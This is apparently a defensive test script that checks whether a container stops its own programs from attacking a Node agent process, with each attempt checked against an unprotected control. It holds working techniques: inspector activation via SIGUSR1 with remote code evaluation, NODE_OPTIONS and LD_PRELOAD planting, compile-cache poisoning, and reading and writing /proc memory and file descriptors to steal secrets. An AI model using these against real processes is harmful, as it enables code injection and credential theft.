// Runs inside a container as one of its agent's programs and tries to get at a Node process of its own user. Each try
// is made on an unprotected process too, which it must succeed on, so that a refusal means something. Prints what
// came of it as one line: SEEN and JSON.
import { spawn, spawnSync } from 'node:child_process'
import * as fs from 'node:fs'
import { join } from 'node:path'
import process from 'node:process'
import { crc32 } from 'node:zlib'

const inspectorPort = 9229
const tries = 24
const betweenMs = 250
const controlMaxMs = 60_000
const secret = ['secret', 'of', 'the', 'control'].join('-')
const rest = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

function outcomeOf(action) {
  try {
    return action() ?? 'done'
  } catch (error) {
    return error.code ?? error.message
  }
}

/** Finds the agent's process and its threads, as a program in the container sees them. */
function agentPid() {
  const pid = fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .find((name) => {
      try {
        const [program, ...rest] = fs.readFileSync(`/proc/${name}/cmdline`, 'utf8').split('\0')
        return program.endsWith('node') && rest.includes('/opt/flotilla/agent.cjs')
      } catch {
        return false
      }
    })
  return Number(pid)
}

/** Starts an unprotected Node process with a secret in its memory. */
async function unprotected(flags = []) {
  const program = `globalThis.secret = ['secret','of','the','control'].join('-'); console.log('up'); setInterval(() => {}, 1000)`
  const child = spawn('node', [...flags, '-e', program], { stdio: ['ignore', 'pipe', 'ignore'] })
  await new Promise((resolve) => child.stdout.once('data', resolve))
  return child
}

async function evaluate(expression) {
  for (let attempt = 0; attempt < tries; attempt++) {
    const targets = await fetch(`http://127.0.0.1:${inspectorPort}/json/list`).then(
      (reply) => reply.json(),
      () => null,
    )
    if (targets === null) {
      await rest(betweenMs)
      continue
    }
    const socket = new WebSocket(targets[0].webSocketDebuggerUrl)
    await new Promise((resolve) => socket.addEventListener('open', resolve))
    const answer = new Promise((resolve) => {
      socket.addEventListener('message', ({ data }) => resolve(JSON.parse(data).result.result.value))
    })
    const params = { expression, returnByValue: true }
    socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params }))
    return `answered ${await answer}`
  }
  return 'closed'
}

async function inspector() {
  const agent = agentPid()
  const threads = fs.readdirSync(`/proc/${agent}/task`).map(Number)
  // The first process of the container forwards signals.
  for (const pid of [1, agent, ...threads]) process.kill(pid, 'SIGUSR1')
  const taken = await evaluate('process.argv.join(" ")')
  const control = await unprotected()
  control.kill('SIGUSR1')
  const shown = await evaluate('globalThis.secret')
  control.kill('SIGKILL')
  return { agent: taken, alive: agentPid() === agent, control: shown }
}

const openInspector = `--inspect=127.0.0.1:${inspectorPort}`
const mark = (name) => `require('node:fs').appendFileSync('/data/marks', '${name}\\n')`
const marking = (name) => `try { ${mark(name)} } catch {}\nmodule.exports = {}\n`

/** Every file in a writable place that Node reads at its start, by itself or through a setting. */
const startFiles = {
  '.env': `NODE_OPTIONS=${openInspector}\nLD_PRELOAD=/data/preloaded.so\n`,
  'node.config.json': JSON.stringify({ nodeOptions: { inspect: true, 'inspect-port': inspectorPort } }),
  '.npmrc': `node-options=${openInspector}\n`,
  'package.json': JSON.stringify({ name: 'planted', type: 'module', scripts: { start: 'node -e 0' } }),
  '.noderc': `${openInspector}\n`,
  '.bashrc': 'echo bashrc >> /data/marks\n',
  '.profile': 'echo profile >> /data/marks\n',
  'agent.cjs': marking('agent.cjs'),
  'late.cjs': marking('late.cjs'),
  'warm-compile-cache.cjs': marking('warm'),
}
/** Module names that the bundle could resolve outside its own folder: in the home folder, or relative to its path. */
const looked = ['zod', 'yaml', 'sqlite', 'late.cjs', 'parts', 'bufferutil', 'utf-8-validate', 'planted']
const lookUpFolders = ['node_modules', '.node_modules', '.node_libraries', 'parts']

function plant() {
  for (const [name, content] of Object.entries(startFiles)) fs.writeFileSync(join('/data', name), content)
  for (const folder of lookUpFolders) {
    for (const name of looked) {
      fs.mkdirSync(join('/data', folder, name), { recursive: true })
      fs.writeFileSync(join('/data', folder, name, 'index.js'), marking(`${folder}/${name}`))
    }
  }
  for (const name of ['mcp', 'tokenizer', 'yaml']) {
    fs.writeFileSync(`/data/parts/${name}.cjs`, marking(`parts/${name}`))
  }
  fs.copyFileSync('/opt/flotilla/parts/vec0.so', '/data/preloaded.so')
  const elsewhere = [
    '/etc/ld.so.preload',
    '/etc/ld.so.cache',
    '/etc/environment',
    '/usr/local/etc/npmrc',
    '/briefing/door-token',
  ]
  return Object.fromEntries(elsewhere.map((path) => [path, outcomeOf(() => fs.writeFileSync(path, 'x'))]))
}

/** Runs Node processes that are configured to read the planted files. */
async function plantedControls() {
  const listens = async (program, args, options = {}) => {
    const child = spawn(program, args, { cwd: '/data', stdio: ['ignore', 'ignore', 'pipe'], ...options })
    let said = ''
    const gone = new Promise((resolve) => child.once('exit', resolve))
    const opened = new Promise((resolve) => {
      child.stderr.on('data', (piece) => {
        said += piece
        if (said.includes('Debugger listening')) resolve('listens')
      })
      child.on('close', () => resolve(said.slice(-300)))
    })
    const bound = setTimeout(() => child.kill('SIGKILL'), controlMaxMs)
    const result = await opened
    clearTimeout(bound)
    child.kill('SIGKILL')
    // The next process listens on the same port.
    await gone
    return result
  }
  const waits = ['-e', 'setInterval(() => {}, 1000)']
  const controls = {
    env: await listens('node', ['--env-file=/data/.env', ...waits]),
    config: await listens('node', ['--experimental-default-config-file', ...waits]),
    options: await listens('node', waits, { env: { ...process.env, NODE_OPTIONS: openInspector } }),
    npm: await listens('npm', ['start']),
  }
  const found = spawnSync('node', ['-e', `require('planted')`], { cwd: '/tmp', encoding: 'utf8' })
  controls.modules = found.status === 0 ? fs.readFileSync('/data/marks', 'utf8').trim() : found.stderr
  fs.rmSync('/data/marks', { force: true })
  const env = { ...process.env, LD_PRELOAD: '/data/preloaded.so' }
  controls.preload = spawnSync('cat', ['/proc/self/maps'], { env, encoding: 'utf8' }).stdout.includes(
    '/data/',
  )
  return controls
}

/** Stores the compiled code of another program under a program's name, in the cache's format. */
function poison(folder, target, other) {
  const [kept, put] = [target, other].map((name) => {
    const hash = crc32(fs.readFileSync(name))
    const all = fs.readdirSync(folder, { recursive: true, withFileTypes: true })
    const entry = all.find(
      (file) => file.isFile() && fs.readFileSync(join(file.parentPath, file.name)).readUInt32LE(12) === hash,
    )
    return join(entry.parentPath, entry.name)
  })
  const bytes = fs.readFileSync(put)
  bytes.writeUInt32LE(crc32(fs.readFileSync(target)), 12)
  fs.writeFileSync(kept, bytes)
}

function cache() {
  const [folder, good, evil] = ['/data/cache', '/data/good.cjs', '/data/evil.cjs']
  const env = { ...process.env, NODE_COMPILE_CACHE: folder }
  const run = (file) => spawnSync('node', [file], { env, encoding: 'utf8' }).stdout.trim()
  for (const [file, word] of [
    [good, 'good'],
    [evil, 'evil'],
  ]) {
    fs.writeFileSync(file, `console.log('${word}')\n`)
    run(file)
  }
  poison(folder, good, evil)
  const control = run(good)
  const ours = '/opt/flotilla/compile-cache'
  const files = fs
    .readdirSync(ours, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
  const attempts = files.flatMap((file) => [
    outcomeOf(() => fs.closeSync(fs.openSync(file, 'r+'))),
    outcomeOf(() => fs.renameSync(file, `${file}.old`)),
    outcomeOf(() => fs.unlinkSync(file)),
  ])
  const others = [
    outcomeOf(() => fs.writeFileSync(join(ours, 'new'), 'x')),
    outcomeOf(() => fs.renameSync(ours, '/opt/flotilla/old')),
  ]
  return { control, files: files.length, outcomes: [...new Set([...attempts, ...others])] }
}

function bundle() {
  const files = fs
    .readdirSync('/opt/flotilla', { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !entry.parentPath.includes('compile-cache'))
    .map((entry) => join(entry.parentPath, entry.name))
  const outcomes = files.flatMap((file) => [
    outcomeOf(() => fs.closeSync(fs.openSync(file, 'r+'))),
    outcomeOf(() => fs.renameSync(file, `${file}.old`)),
    outcomeOf(() => fs.chmodSync(file, 0o777)),
  ])
  const node = outcomeOf(() => fs.closeSync(fs.openSync('/usr/local/bin/node', 'r+')))
  fs.writeFileSync('/data/own', 'x')
  return {
    files,
    outcomes: [...new Set([...outcomes, node])],
    control: outcomeOf(() => fs.closeSync(fs.openSync('/data/own', 'r+'))),
  }
}

/** What a program can read from a process through its /proc folder, and through its sockets. */
const pythonProbe = `
import os, sys, json
pid, wanted = sys.argv[1], sys.argv[2].encode()
def attempt(action):
    try: return action()
    except OSError as error: return type(error).__name__
def memory(mode):
    found = False
    with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', mode, 0) as memory:
        for line in maps:
            if ' rw' not in line: continue
            start, end = (int(edge, 16) for edge in line.split()[0].split('-'))
            try:
                memory.seek(start); found = found or wanted in memory.read(end - start)
            except (OSError, ValueError, OverflowError): pass
    return 'found' if found else 'read'
def descriptors():
    names = os.listdir(f'/proc/{pid}/fd')
    return 'listed' if [os.readlink(f'/proc/{pid}/fd/{name}') for name in names] else 'none'
def steal():
    for name in os.listdir(f'/proc/{pid}/fd'):
        if os.readlink(f'/proc/{pid}/fd/{name}').startswith('/data/held'):
            with open(f'/proc/{pid}/fd/{name}') as held: return held.read()
    return 'none'
def protect():
    with open(f'/proc/{pid}/oom_score_adj', 'r+') as score: score.write('1000'); score.flush()
    return 'written'
def files(): return 'entered' if os.listdir(f'/proc/{pid}/cwd/') is not None else ''
def environment():
    with open(f'/proc/{pid}/environ', 'rb') as file: return 'read' if file.read() else 'empty'
print(json.dumps({
    'memory': attempt(lambda: memory('rb')), 'written': attempt(lambda: memory('r+b')),
    'environment': attempt(environment), 'descriptors': attempt(descriptors), 'steal': attempt(steal),
    'folder': attempt(files), 'killed first': attempt(protect),
}))
`

async function handles() {
  fs.writeFileSync('/data/look.py', pythonProbe)
  fs.writeFileSync('/data/held', 'held file')
  const program = `import time,sys
secret='-'.join(['secret','of','the','control']); held=open('/data/held')
print('up', flush=True); time.sleep(600)`
  const child = spawn('python3', ['-c', program], { stdio: ['ignore', 'pipe', 'ignore'] })
  await new Promise((resolve) => child.stdout.once('data', resolve))
  const look = (pid) =>
    JSON.parse(spawnSync('python3', ['/data/look.py', String(pid), secret], { encoding: 'utf8' }).stdout)
  const first = outcomeOf(() => fs.writeFileSync('/proc/1/oom_score_adj', '1000'))
  const seen = { agent: look(agentPid()), control: look(child.pid), first }
  child.kill('SIGKILL')
  return seen
}

/** 127.0.0.11 in the kernel's format: the engine answers DNS queries there, from outside the container. */
const engineNameServer = '0B00007F:'

/** Returns the sockets in the container's network; those of unknown owner belong to the agent. */
async function sockets() {
  const rows = (file) => fs.readFileSync(`/proc/net/${file}`, 'utf8').trim().split('\n').slice(1)
  const listening = () =>
    [...rows('tcp'), ...rows('tcp6')]
      .map((line) => line.trim().split(/\s+/))
      .filter((fields) => fields[3] === '0A' && !fields[1].startsWith(engineNameServer))
      .map((fields) => Number.parseInt(fields[1].split(':').at(-1), 16))
  const named = () => rows('unix').filter((line) => /[@/]/.test(line)).length
  const before = { ports: listening(), named: named() }
  const program = `require('net').createServer().listen('\\0control'); require('net').createServer().listen(9999, () => console.log('up'))`
  const child = spawn('node', ['-e', program], { stdio: ['ignore', 'pipe', 'ignore'] })
  await new Promise((resolve) => child.stdout.once('data', resolve))
  const control = { ports: listening().filter((port) => port === 9999), named: named() - before.named }
  child.kill('SIGKILL')
  const ask = (path) =>
    fetch(`http://127.0.0.1:8400${path}`).then(
      (reply) => reply.status,
      (error) => error.cause?.code,
    )
  const answers = [await ask('/healthz'), await ask('/status'), await ask('/result?run_id=x')]
  return { ...before, control, answers }
}

const attacks = { inspector, plant, plantedControls, cache, bundle, handles, sockets }
const name = process.argv[2]
process.stdout.write(`SEEN ${JSON.stringify(await attacks[name]())}\n`)
process.exit(0)
